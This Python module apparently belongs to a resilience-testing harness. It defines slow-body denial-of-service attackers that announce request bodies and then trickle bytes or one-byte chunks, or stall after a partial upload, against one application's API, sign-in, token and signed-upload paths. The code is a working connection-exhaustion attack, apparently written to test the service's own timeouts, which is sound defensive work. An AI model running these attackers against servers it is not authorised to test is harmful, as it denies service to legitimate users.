"""Attackers that announce a body and send it as slowly as possible."""

from __future__ import annotations

from dataclasses import dataclass
from itertools import chain

from attacks.attackers.base import AttackContext, Attacker, repeat_forever, request
from attacks.connection import RawConnection

_JSON = "Content-Type: application/json"
_FORM = "Content-Type: application/x-www-form-urlencoded"
_ZIP = "Content-Type: application/zip"
_FILE = "Content-Type: multipart/form-data; boundary=x"
#: Size of a body that is small enough to be read into memory.
_SMALL = 5_000
#: Size of a body that only upload URLs accept.
_HUGE = 10**13


@dataclass
class SlowBody(Attacker):
    """Sends a body byte by byte to one path."""

    name: str
    method: str
    path: str
    content_type: str = _JSON
    length: int = _SMALL
    token: str | None = None

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send the head immediately, and then two bytes per second."""
        length = f"Content-Length: {self.length}"
        token = context.target.token if self.token == "right" else self.token
        connection.send(
            request(
                context,
                self.method,
                self.address(context, number),
                self.content_type,
                length,
                f"Cookie: {context.cookie}",
                token=token,
            )
        )
        return await connection.trickle(repeat_forever(b"["), pace=0.5)

    def address(self, context: AttackContext, number: int) -> str:
        """Return the path that this attacker sends to."""
        return self.path


@dataclass
class SlowUpload(SlowBody):
    """Sends a file byte by byte to a signed path of the registry."""

    uploads: bool = True

    def address(self, context: AttackContext, number: int) -> str:
        """Return this attacker's own signed path."""
        return context.uploads[number % len(context.uploads)]


@dataclass
class BadlySigned(SlowUpload):
    """Changes the signature of a signed path of the registry."""

    def address(self, context: AttackContext, number: int) -> str:
        """Return a path whose signature is wrong."""
        return f"{super().address(context, number)}x"


class SlowChunks(Attacker):
    """Sends JSON in chunks of one byte, so that no length is announced."""

    name = "body: slow chunks, JSON"

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send the head, and then two chunks a second."""
        connection.send(
            request(
                context,
                "POST",
                "/api/object/",
                _JSON,
                "Transfer-Encoding: chunked",
                token=context.target.token,
            )
        )
        return await connection.trickle(repeat_forever(b"1\r\n[\r\n"), pace=0.5)


class SlowUploadInChunks(Attacker):
    """Sends a file in chunks of one byte to a signed path of the registry."""

    name = "body: slow chunks, signed PUT"
    uploads = True

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send the head, and then two chunks a second."""
        path = context.uploads[number % len(context.uploads)]
        connection.send(request(context, "PUT", path, "Transfer-Encoding: chunked"))
        return await connection.trickle(repeat_forever(b"1\r\nx\r\n"), pace=0.5)


class StalledUpload(Attacker):
    """Sends a large part of a file, so that it looks fast, and then nothing."""

    name = "body: stalled signed PUT"
    uploads = True

    async def attack(
        self, connection: RawConnection, context: AttackContext, number: int
    ) -> str:
        """Send the head and 256 kB of 10 MB, and wait."""
        path = context.uploads[number % len(context.uploads)]
        length = f"Content-Length: {10 * 2**20}"
        connection.send(request(context, "PUT", path, length))
        pieces = chain([bytes(2**18)], repeat_forever(b""))
        return await connection.trickle(pieces, pace=1)


ATTACKER_TYPES: tuple[Attacker, ...] = (
    SlowBody("body: JSON without a token", "POST", "/api/object/"),
    SlowBody("body: JSON with a token", "POST", "/api/object/", token="right"),
    SlowBody("body: JSON with a bad token", "POST", "/api/object/", token="0" * 40),
    SlowBody("body: JSON to no address", "POST", "/api/nowhere/"),
    SlowBody("body: JSON, too long", "POST", "/api/object/", length=_HUGE),
    SlowBody("body: sign-in form", "POST", "/sign-in", _FORM),
    SlowBody("body: form with a file", "POST", "/crates/", _FILE, 10**6),
    SlowBody("body: form to /o/token", "POST", "/o/token", _FORM),
    SlowBody("body: form to a page", "POST", "/", _FORM),
    SlowBody("body: crate", "POST", "/api/ro-crate/", _ZIP, 10**6, "right"),
    SlowBody("body: crate without a token", "POST", "/api/ro-crate/", _ZIP, 10**6),
    SlowBody("body: PUT without a signature", "PUT", f"/api/data/{'0' * 40}/file"),
    BadlySigned("body: PUT badly signed", "PUT", "", "X-Nothing: 1", 10**6),
    SlowUpload("body: signed PUT", "PUT", "", "X-Nothing: 1", 10**6),
    StalledUpload(),
    SlowChunks(),
    SlowUploadInChunks(),
)
